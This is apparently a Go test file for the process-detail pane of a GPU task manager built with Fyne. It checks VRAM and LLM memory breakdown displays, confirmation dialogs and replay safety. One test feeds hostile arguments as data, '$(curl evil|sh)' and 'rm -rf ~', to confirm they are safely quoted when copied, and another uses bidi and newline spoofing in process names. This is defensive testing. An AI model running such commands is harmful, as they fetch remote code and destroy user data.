package ui

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/canvas"
	"fyne.io/fyne/v2/container"
	"fyne.io/fyne/v2/dialog"
	"fyne.io/fyne/v2/test"
	"fyne.io/fyne/v2/widget"

	"github.com/gputaskman/gtm/app/capture"
	"github.com/gputaskman/gtm/app/collect"
	"github.com/gputaskman/gtm/app/report"
	"github.com/gputaskman/gtm/app/snapshot"
	"github.com/gputaskman/gtm/internal/schema"
)

// texts returns the visible text under o, in tree order: each label,
// button and rich text once (not the canvas texts they draw with), and
// the canvas texts of custom widgets.
func texts(o fyne.CanvasObject) []string {
	var out []string
	visit(o, func(o fyne.CanvasObject) bool {
		switch x := o.(type) {
		case *widget.Label:
			out = append(out, x.Text)
		case *widget.Button:
			out = append(out, x.Text)
		case *widget.RichText:
			out = append(out, x.String())
		case *canvas.Text:
			out = append(out, x.Text)
		default:
			return true
		}
		return false
	})
	return out
}

// visit calls f on o and on every visible object under it, through
// containers and widgets' renderers, while f returns true.
func visit(o fyne.CanvasObject, f func(fyne.CanvasObject) bool) {
	if o == nil || !o.Visible() || !f(o) {
		return
	}
	switch x := o.(type) {
	case *fyne.Container:
		for _, c := range x.Objects {
			visit(c, f)
		}
	case fyne.Widget:
		for _, c := range test.WidgetRenderer(x).Objects() {
			visit(c, f)
		}
	}
}

func allText(o fyne.CanvasObject) string { return strings.Join(texts(o), "\n") }

func mustContain(t *testing.T, got string, want ...string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(got, w) {
			t.Errorf("missing %q in:\n%s", w, got)
		}
	}
}

// fakeActions records what the process pane asked for; it launches nothing.
type fakeActions struct {
	mu        sync.Mutex
	endErr    error
	unloadErr error
	opened    []string
	ended     []int
	unloaded  []int
	checks    int // CheckEnd calls
}

func (f *fakeActions) OpenFolder(dir string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.opened = append(f.opened, dir)
	return nil
}
func (f *fakeActions) CheckEnd(p *schema.Process) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.checks++
	return f.endErr
}
func (f *fakeActions) EndProcess(p *schema.Process) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.ended = append(f.ended, p.PID)
	return nil
}
func (f *fakeActions) CheckUnload(p *schema.Process) (string, error) {
	if f.unloadErr != nil {
		return "", f.unloadErr
	}
	return "Ask llama-server to unload qwen3", nil
}
func (f *fakeActions) Unload(ctx context.Context, p *schema.Process) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.unloaded = append(f.unloaded, p.PID)
	return nil
}

func newTestPane(t *testing.T, act Actions) (*ProcessPane, fyne.Window) {
	t.Helper()
	test.NewTempApp(t)
	w := test.NewWindow(nil)
	t.Cleanup(w.Close)
	i := NewProcessPane(w, act)
	w.SetContent(i.CanvasObject())
	w.Resize(fyne.NewSize(760, 900))
	return i, w
}

func TestProcessPaneLLMProcess(t *testing.T) {
	s := testSnapshot()
	i, _ := newTestPane(t, &fakeActions{})
	i.Show(s, &s.Processes[0])
	got := allText(i.CanvasObject())
	mustContain(t, got,
		"PID 4242 · llama-server",
		"alice",
		"llama-server -m qwen3.gguf",
		"6.00 GiB  · measured",
		"GPU 85% · SM 85% · enc 0% · dec 0%  · measured",
		"Spill / paged\nn/a",
		report.RuntimeCaption,
		"ggml/llama.cpp (CUDA)", "libggml-cuda.so",
		"Model · qwen3:0.6b", "mapped + cmdline · confirmed",
		// The bar's legend: each part with its provenance, the unknown
		// ones n/a, and the measured remainder as other/unknown.
		"weights", "604.15 MiB", "reported (log)",
		"KV cache", "896.00 MiB", "estimated (gguf)",
		"compute", "output", "n/a", "no log, API or estimate",
		"other / unknown", "4643.85 MiB", "inferred (VRAM minus parts)",
		"full width: measured VRAM 6.00 GiB",
		"8192  · from api", "1 of 4 busy", "42.5",
		report.PresenceNote,
		"Copy command line", "End process…", "Unload model…",
	)
}

// The other/unknown part is the measurement minus the known parts; when
// the parts exceed the measurement it is n/a and the bar says so, never a
// negative size.
func TestLLMBarNeverNegative(t *testing.T) {
	vram := uint64(1 << 30)
	br := &schema.Breakdown{
		Weights: &schema.Part{Bytes: 900 << 20, Source: "estimated", From: "gguf"},
		KVCache: &schema.Part{Bytes: 300 << 20, Source: "estimated", From: "gguf"},
	}
	m := report.NewBar(&vram, br)
	if !m.Exceeded || m.Parts[4].Known || m.Scale != 1200<<20 {
		t.Fatalf("model = %+v", m)
	}
	test.NewTempApp(t)
	b := NewLLMBar()
	b.SetBreakdown(&vram, br)
	b.Resize(fyne.NewSize(500, 200))
	got := allText(b)
	mustContain(t, got, "parts exceed the measured 1.00 GiB by 176.00 MiB (red line)", "other / unknown")
	if strings.Contains(got, "-") && strings.Contains(got, "-1") {
		t.Errorf("negative size drawn:\n%s", got)
	}
	// Segments never extend past the bar.
	r := test.WidgetRenderer(b).(*barRenderer)
	r.Layout(fyne.NewSize(500, 200))
	var end float32
	for _, s := range r.segs {
		if s.Size().Width < 0 {
			t.Errorf("negative width %v", s.Size().Width)
		}
		end = max(end, s.Position().X+s.Size().Width)
	}
	if end > 500.01 {
		t.Errorf("segments end at %v, past the bar", end)
	}
	if !r.marker.Visible() {
		t.Error("no marker where the measurement ends")
	}

	// Within the measurement: other/unknown is the exact remainder.
	vram = 2 << 30
	m = report.NewBar(&vram, br)
	if m.Exceeded || !m.Parts[4].Known || m.Parts[4].Bytes != 2<<30-1200<<20 {
		t.Fatalf("model = %+v", m.Parts[4])
	}
}

func TestProcessPaneUnknownVRAM(t *testing.T) {
	s := testSnapshot()
	p := s.Processes[0]
	p.VRAMBytes, p.GPUUtilPercent = nil, nil
	p.LLM = &schema.LLM{Breakdown: schema.Breakdown{Weights: &schema.Part{Bytes: 633495552, Source: "estimated", From: "gguf"}}}
	i, _ := newTestPane(t, nil)
	i.Show(s, &p)
	got := allText(i.CanvasObject())
	mustContain(t, got, "VRAM not measured", "Measured VRAM\nn/a")
	if strings.Contains(got, "0 B") || !strings.Contains(got, "GPU n/a · SM 85%") {
		t.Errorf("unknown shown as zero:\n%s", got)
	}
	// The other row: H: process, not inspected: n/a everywhere.
	i.Show(s, &s.Processes[1])
	got = allText(i.CanvasObject())
	mustContain(t, got, "H:5151 (a host PID, seen from a container)", "VRAM\nn/a", "n/a (not inspected)", collect.NoteOtherNamespace)
	if strings.Contains(got, "End process") {
		t.Error("actions shown without an Actions implementation")
	}
}

func TestProcessPaneModelEvidence(t *testing.T) {
	s := testSnapshot()
	p := s.Processes[0]
	p.Models = []schema.Model{
		{Path: "/opt/app/models/whisper-base.bin", Evidence: []string{"installed"}, Candidate: true, Role: "model"},
		{Path: "/m/laya.gguf", Evidence: []string{"mapped"}, Role: "model", KindHint: ptr("decision"), KindLabel: ptr("likely decision model (name)")},
	}
	i, _ := newTestPane(t, nil)
	i.Show(s, &p)
	got := allText(i.CanvasObject())
	mustContain(t, got, "Model · whisper-base.bin", "installed · candidate: not proven loaded",
		"Model · laya.gguf", "mapped · not confirmed (one source)", "likely decision model (name) · hint: decision")
}

// Show with the same readings redraws nothing; a changed reading updates
// the label in place.
func TestProcessPaneUpdatesInPlace(t *testing.T) {
	s := testSnapshot()
	i, w := newTestPane(t, nil)
	w.Resize(fyne.NewSize(460, 400))
	i.Show(s, &s.Processes[0])
	first := i.body.Objects[0]
	i.Show(s, &s.Processes[0])
	if i.body.Objects[0] != first {
		t.Error("rebuilt for an identical snapshot")
	}
	s2 := testSnapshot()
	s2.Processes[0].GPUUtilPercent = ptr(12.0)
	i.Show(s2, &s2.Processes[0])
	if i.body.Objects[0] != first {
		t.Error("rebuilt for a changed reading")
	}
	mustContain(t, allText(i.CanvasObject()), "GPU 12% · SM 85%")
	// Scrolled down, the same process stays where it is; another one
	// starts at the top.
	i.scroll.Refresh() // lays the content out, as drawing would
	i.scroll.ScrollToOffset(fyne.NewPos(0, 200))
	i.Show(s2, &s2.Processes[0])
	if i.scroll.Offset.Y != 200 {
		t.Errorf("same process: offset %v", i.scroll.Offset.Y)
	}
	i.Show(s2, &s2.Processes[2])
	if i.scroll.Offset.Y != 0 {
		t.Errorf("another process: offset %v", i.scroll.Offset.Y)
	}
	i.Show(s2, nil)
	if len(i.body.Objects) != 0 || i.title.Text != "Select a process to inspect it." {
		t.Error("stale content with nothing selected")
	}
}

// confirmDialog returns the process pane's open confirmation and the buttons
// on the window's top overlay.
func overlayButtons(t *testing.T, w fyne.Window) map[string]*widget.Button {
	t.Helper()
	top := w.Canvas().Overlays().Top()
	if top == nil {
		t.Fatal("no dialog shown")
	}
	out := map[string]*widget.Button{}
	for _, o := range test.LaidOutObjects(top) {
		if b, ok := o.(*widget.Button); ok {
			out[b.Text] = b
		}
	}
	return out
}

func TestProcessPaneEndNeedsConfirmation(t *testing.T) {
	s := testSnapshot()
	act := &fakeActions{}
	i, w := newTestPane(t, act)
	i.Show(s, &s.Processes[0])
	test.Tap(i.endBtn)
	mustContain(t, allText(w.Canvas().Overlays().Top()), "Send SIGTERM to PID 4242 (llama-server)?")
	test.Tap(overlayButtons(t, w)["Cancel"])
	if len(act.ended) != 0 {
		t.Fatal("cancel ended the process")
	}
	// Escape cancels too; "?" does nothing there.
	test.Tap(i.endBtn)
	w.Canvas().Focused().TypedRune('?')
	if w.Canvas().Overlays().Top() == nil {
		t.Fatal("? closed the confirmation")
	}
	w.Canvas().Focused().TypedKey(&fyne.KeyEvent{Name: fyne.KeyEscape})
	if w.Canvas().Overlays().Top() != nil || len(act.ended) != 0 || i.pending != nil {
		t.Fatal("Escape did not cancel, or ended the process")
	}
	test.Tap(i.endBtn)
	test.Tap(overlayButtons(t, w)["End process"])
	if len(act.ended) != 1 || act.ended[0] != 4242 {
		t.Fatalf("ended = %v", act.ended)
	}
	// The OS is asked once per process, not on every refresh.
	before := act.checks
	for n := 0; n < 5; n++ {
		i.Show(s, &s.Processes[0])
	}
	if act.checks != before {
		t.Errorf("CheckEnd called %d more times for the same process", act.checks-before)
	}
	i.Show(s, &s.Processes[2])
	if act.checks != before+1 {
		t.Errorf("CheckEnd not asked for another process")
	}
}

func TestProcessPaneEndRefused(t *testing.T) {
	s := testSnapshot()
	act := &fakeActions{endErr: errors.New("not your process (alice's)")}
	i, _ := newTestPane(t, act)
	i.Show(s, &s.Processes[0])
	if !i.endBtn.Disabled() {
		t.Fatal("end enabled for another user's process")
	}
	mustContain(t, allText(i.CanvasObject()), "End process: not your process (alice's).")
	test.Tap(i.endBtn)
	if len(act.ended) != 0 {
		t.Fatal("disabled button acted")
	}
	// A replayed capture never acts on live processes.
	act.endErr = nil
	i.SetLive(false)
	i.Show(s, &s.Processes[0])
	if i.endBtn.Visible() || i.unload.Visible() {
		t.Error("actions offered on a replay")
	}
	i.confirmEnd()
	i.confirmUnload()
	if len(act.ended) != 0 || len(act.unloaded) != 0 || i.pending != nil {
		t.Error("a replay acted or asked")
	}
}

func TestProcessPaneCopyAndFolder(t *testing.T) {
	s := testSnapshot()
	act := &fakeActions{}
	i, _ := newTestPane(t, act)
	i.Show(s, &s.Processes[0])
	test.Tap(i.copyBtn)
	if got := fyne.CurrentApp().Clipboard().Content(); got != "llama-server -m qwen3.gguf" {
		t.Errorf("clipboard = %q", got)
	}
	// A hostile argument is pasted as an argument, not run.
	hostile := s.Processes[0]
	hostile.Cmdline = []string{"llama-server", "--alias", "$(curl evil|sh)", "a\x15rm -rf ~\n"}
	i.Show(s, &hostile)
	test.Tap(i.copyBtn)
	if got, want := fyne.CurrentApp().Clipboard().Content(), `llama-server --alias '$(curl evil|sh)' $'a\x15rm -rf ~\n'`; got != want {
		t.Errorf("clipboard = %s, want %s", got, want)
	}
	var folder *widget.Button
	for _, o := range test.LaidOutObjects(i.CanvasObject()) {
		if b, ok := o.(*widget.Button); ok && b.Text == "Open folder" && b.Visible() {
			folder = b
		}
	}
	if folder == nil {
		t.Fatal("no Open folder button")
	}
	test.Tap(folder)
	if len(act.opened) != 1 || act.opened[0] != "/srv/models" {
		t.Errorf("opened = %v", act.opened)
	}
}

func TestProcessPaneUnloadNeedsConfirmation(t *testing.T) {
	s := testSnapshot()
	act := &fakeActions{}
	i, w := newTestPane(t, act)
	i.Show(s, &s.Processes[0])
	test.Tap(i.unload)
	mustContain(t, allText(w.Canvas().Overlays().Top()), "Ask llama-server to unload qwen3?")
	test.Tap(overlayButtons(t, w)["Cancel"])
	if len(act.unloaded) != 0 {
		t.Fatal("cancel unloaded")
	}
	if _, ok := i.pending.(*dialog.ConfirmDialog); ok {
		t.Error("dialog still pending after cancel")
	}
}

func TestHelpOpenClose(t *testing.T) {
	test.NewTempApp(t)
	w := test.NewWindow(container.NewStack(widget.NewLabel("main")))
	t.Cleanup(w.Close)
	w.Resize(fyne.NewSize(900, 700))

	closeHelp := ShowHelp(w)
	top := w.Canvas().Overlays().Top()
	if top == nil {
		t.Fatal("help not shown")
	}
	mustContain(t, allText(top), "How sure is each number?", "DWM and double counting", "Spill", "Paged", "Presence is not residency")
	// Escape closes it.
	w.Canvas().Focused().TypedKey(&fyne.KeyEvent{Name: fyne.KeyEscape})
	if w.Canvas().Overlays().Top() != nil {
		t.Fatal("Escape did not close help")
	}
	closeHelp() // closing again is harmless

	// The returned function closes it too; "?" toggles it off.
	closeHelp = ShowHelp(w)
	closeHelp()
	if w.Canvas().Overlays().Top() != nil {
		t.Fatal("close func did not close help")
	}
	ShowHelp(w)
	w.Canvas().Focused().TypedRune('?')
	if w.Canvas().Overlays().Top() != nil {
		t.Fatal("? did not close help")
	}
}

// loadGolden reads the schema's golden snapshot (an LLM server, a
// compositor, an unknown process, a container process).
func loadGolden(t *testing.T) *schema.Snapshot {
	t.Helper()
	f, err := os.Open(filepath.Join("..", "app", "snapshot", "testdata", "snapshot.golden.json"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	s, err := capture.ReadSnapshot(f)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// TestProcessPaneRender draws the pane for the golden snapshot's
// llama-server and compares it with testdata/processpane.png (Fyne writes
// testdata/failed/ on a mismatch, to look at).
func TestProcessPaneRender(t *testing.T) {
	time.Local = time.UTC
	s := loadGolden(t)
	i, w := newTestPane(t, &fakeActions{})
	w.Resize(fyne.NewSize(420, 1500))
	i.Show(s, &s.Processes[0])
	test.AssertImageMatches(t, "processpane.png", w.Canvas().Capture())
}

func TestHelpRender(t *testing.T) {
	test.NewTempApp(t)
	w := test.NewWindow(widget.NewLabel(""))
	t.Cleanup(w.Close)
	w.Resize(fyne.NewSize(900, 1000))
	ShowHelp(w)
	test.AssertImageMatches(t, "help.png", w.Canvas().Capture())
}

// Strings a process chose are shown with control and bidi characters as
// visible escapes: a name cannot forge a line or reverse what follows.
func TestProcessPaneEscapesProcessStrings(t *testing.T) {
	s := testSnapshot()
	p := s.Processes[0]
	p.Name = ptr("evil\nPID 1 · init")
	p.Cmdline = []string{"run", "\u202egguf.exe"}
	i, _ := newTestPane(t, nil)
	i.Show(s, &p)
	got := allText(i.CanvasObject())
	mustContain(t, got, `PID 4242 · evil\nPID 1 · init`, `run \u202egguf.exe`)
	if strings.Contains(got, "\u202e") || strings.Contains(got, "evil\nPID") {
		t.Errorf("raw control characters shown:\n%s", got)
	}
}

// ollamaRunner is an Ollama runner whose load log reported every GPU
// buffer, with its parent's API answering: the fullest pane.
func ollamaRunner() (*schema.Snapshot, *schema.Process) {
	s := testSnapshot()
	start := time.Date(2026, 12, 2, 14, 0, 0, 0, time.UTC)
	log := func(b uint64) *schema.Part { return &schema.Part{Bytes: b, Source: "reported", From: "log"} }
	p := schema.Process{PID: 7001, PIDLabel: "7001", Name: ptr("ollama"), User: ptr("ollama"), StartTime: &start, PPID: ptr(6999),
		Exe: ptr("/usr/local/bin/ollama"), Cwd: ptr("/"), DeviceIndex: ptr(0), GPUProcessTypes: []string{"compute"},
		Cmdline:   []string{"/usr/local/bin/ollama", "runner", "--model", "/usr/share/ollama/.ollama/models/blobs/sha256-a3de", "--port", "41234"},
		VRAMBytes: ptr(uint64(5800 << 20)), GPUUtilPercent: ptr(71.0), SMUtilPercent: ptr(68.0), EncoderUtilPercent: ptr(0.0), DecoderUtilPercent: ptr(0.0),
		CPUPercent: ptr(3.5), RSSBytes: ptr(uint64(900 << 20)), Category: ptr("AI"), ListenPorts: []int{41234},
		Runtimes: []schema.Runtime{{Name: "CUDA", Libraries: []string{"libcuda.so.1", "libcublas.so.12"}}, {Name: "ggml/llama.cpp", Detail: "CUDA", Libraries: []string{"libggml-cuda.so"}}},
		Models: []schema.Model{{Path: "/usr/share/ollama/.ollama/models/blobs/sha256-a3de", Name: ptr("qwen3:8b"), Store: ptr("ollama"), Role: "model", Format: ptr("gguf"),
			Evidence: []string{"api", "mapped", "cmdline"}, Confirmed: true, Kind: ptr("llm"), Architecture: ptr("qwen3"), Quantization: ptr("Q4_K_M"),
			Layers: ptr(uint32(36)), Parameters: ptr(uint64(8190735360)), TrainedContext: ptr(uint64(40960)),
			Weights: &schema.Amount{Bytes: 4683 << 20, Source: "estimated", From: "gguf"}}},
		LLM: &schema.LLM{Breakdown: schema.Breakdown{Weights: log(4455 << 20), KVCache: log(576 << 20), Compute: log(300 << 20), Output: log(1 << 20),
			Other: &schema.Other{Bytes: ptr(uint64(468 << 20)), Source: "inferred"}},
			Host: &schema.HostParts{Weights: log(333 << 20), Compute: log(24 << 20)},
			NCtx: ptr(uint64(4096)), NCtxSource: ptr("log"), Parallel: ptr(uint64(1)), ParallelSource: ptr("log"),
			KVUnified: ptr(true), KVUnifiedSource: ptr("log"), Server: ptr("ollama"), APIStatus: ptr("ok"),
			APIAddr: ptr("127.0.0.1:11434"), APIModel: ptr("qwen3:8b"), LogPath: ptr("/usr/share/ollama/.ollama/logs/server.log"), Notes: []string{}},
	}
	s.Processes = append(s.Processes, p)
	return s, &s.Processes[len(s.Processes)-1]
}

func TestProcessPaneReportedBreakdown(t *testing.T) {
	s, p := ollamaRunner()
	i, _ := newTestPane(t, &fakeActions{})
	i.Show(s, p)
	got := allText(i.CanvasObject())
	mustContain(t, got,
		"weights", "4455.00 MiB", "reported (log)", "compute", "300.00 MiB", "output", "1.00 MiB",
		"other / unknown", "468.00 MiB", "full width: measured VRAM 5.66 GiB",
		"In host RAM\nweights 333.00 MiB (reported, log) · compute 24.00 MiB (reported, log)",
		"CPU\n4% of all CPUs  · measured", "Resident RAM\n900.0 MiB  · measured",
		"ollama · API ok at 127.0.0.1:11434 · serves qwen3:8b", "4096  · from log", "unified (one cache for all slots)  · from log",
		"api + mapped + cmdline · confirmed", "Listening\nTCP 41234", "Unload model…")
	// Each legend line: name, size, provenance.
	mustContain(t, got, "weights\n4455.00 MiB\nreported (log)", "KV cache\n576.00 MiB\nreported (log)",
		"compute\n300.00 MiB\nreported (log)", "output\n1.00 MiB\nreported (log)",
		"other / unknown\n468.00 MiB\ninferred (VRAM minus parts)")
}

// TestProcessPaneRenderReported draws the fullest pane: every part reported
// by a load log, host buffers, a live API.
func TestProcessPaneRenderReported(t *testing.T) {
	time.Local = time.UTC
	s, p := ollamaRunner()
	i, w := newTestPane(t, &fakeActions{})
	w.Resize(fyne.NewSize(460, 1500))
	i.Show(s, p)
	test.AssertImageMatches(t, "processpane-reported.png", w.Canvas().Capture())
}

// An app adapter's state: the selected model is selection, not a load;
// events say whether they were logged since the process started.
func TestProcessPaneAppState(t *testing.T) {
	s := testSnapshot()
	p := s.Processes[2]
	at := time.Date(2026, 12, 2, 14, 30, 0, 0, time.UTC)
	p.App = &schema.AppState{App: "Handy", SelectedModel: ptr("parakeet-tdt-0.6b-v3"), LogPath: ptr("/home/alice/.local/share/handy/logs/handy.log"),
		Events: []schema.AppEvent{{Time: at, Kind: "load", Model: ptr("parakeet-tdt-0.6b-v3"), Fresh: true},
			{Time: at.Add(-48 * time.Hour), Kind: "unload", Model: ptr("whisper-small"), Fresh: false}},
		Notes: []string{}}
	time.Local = time.UTC
	i, _ := newTestPane(t, nil)
	i.Show(s, &p)
	mustContain(t, allText(i.CanvasObject()), "App · Handy", "Settings prove selection, not a load",
		"Selected model\nparakeet-tdt-0.6b-v3",
		"load parakeet-tdt-0.6b-v3 (since this process started)", "unload whisper-small (before this process started)")
}

// A vLLM worker: the pane names its model and server, its own GPU's
// parts (activations and CUDA graphs too) and the served model across
// its processes and GPUs, with the measured total only.
func TestProcessPaneServedWorker(t *testing.T) {
	s := testSnapshot()
	dev0, dev1 := 0, 1
	vram0, vram1 := uint64(20<<30), uint64(19<<30)
	server, role, model, src := "vllm", "worker", "Qwen/Qwen3-8B", "api"
	api, rank0, rank1 := 700, 0, 1
	cap, capSrc := uint64(174752), "log"
	worker := func(pid, dev, rank int, vram *uint64) schema.Process {
		name := "VLLM::Worker_TP"
		return schema.Process{PID: pid, PIDLabel: fmt.Sprint(pid), Name: &name, DeviceIndex: &dev, VRAMBytes: vram, Notes: []string{},
			Models: []schema.Model{}, LLM: &schema.LLM{Breakdown: schema.Breakdown{
				Weights:     &schema.Part{Bytes: 7800 << 20, Source: "reported", From: "log"},
				KVCache:     &schema.Part{Bytes: 9000 << 20, Source: "reported", From: "log"},
				Activations: &schema.Part{Bytes: 1400 << 20, Source: "reported", From: "log"},
				CUDAGraphs:  &schema.Part{Bytes: 512 << 20, Source: "reported", From: "log"}},
				Server: &server, Role: &role, APIPID: &api, Rank: &rank, ModelID: &model, ModelIDSource: &src,
				KVCapacityTokens: &cap, KVCapacitySource: &capSrc}}
	}
	s.Processes = append(s.Processes, worker(701, dev0, rank0, &vram0), worker(702, dev1, rank1, &vram1))
	s.ServedModels = snapshot.GroupServed(s.Processes)
	i, _ := newTestPane(t, &fakeActions{})
	i.Show(s, &s.Processes[len(s.Processes)-1])
	got := allText(i.CanvasObject())
	mustContain(t, got,
		"activations\n1400.00 MiB\nreported (log)", "CUDA graphs\n512.00 MiB\nreported (log)",
		"worker · rank 1 · its API is PID 700", "Qwen/Qwen3-8B  · from api", "174752 tokens  · from log",
		"Served model · vllm · Qwen/Qwen3-8B", "PID 700\napi · no GPU memory",
		"PID 701\nworker rank 0 · GPU 0 · 20.00 GiB  · measured", "PID 702\nworker rank 1 · GPU 1 · 19.00 GiB  · measured",
		"39.00 GiB  · measured on GPU 0, 1")
}

// A model a process read and closed (traced opens): the pane names it
// with its open time, as history, not as resident.
func TestProcessPaneOpenedModel(t *testing.T) {
	time.Local = time.UTC
	s := testSnapshot()
	p := &s.Processes[0]
	at := time.Date(2026, 12, 4, 14, 2, 5, 0, time.UTC)
	p.Models = append(p.Models, schema.Model{Path: "/models/ggml-base.en.bin", Role: "model", Evidence: []string{"opened"}, OpenedAt: &at})
	i, _ := newTestPane(t, &fakeActions{})
	i.Show(s, p)
	mustContain(t, allText(i.CanvasObject()), "Model · ggml-base.en.bin", "opened · not proven resident · opened at 14:02:05")
}
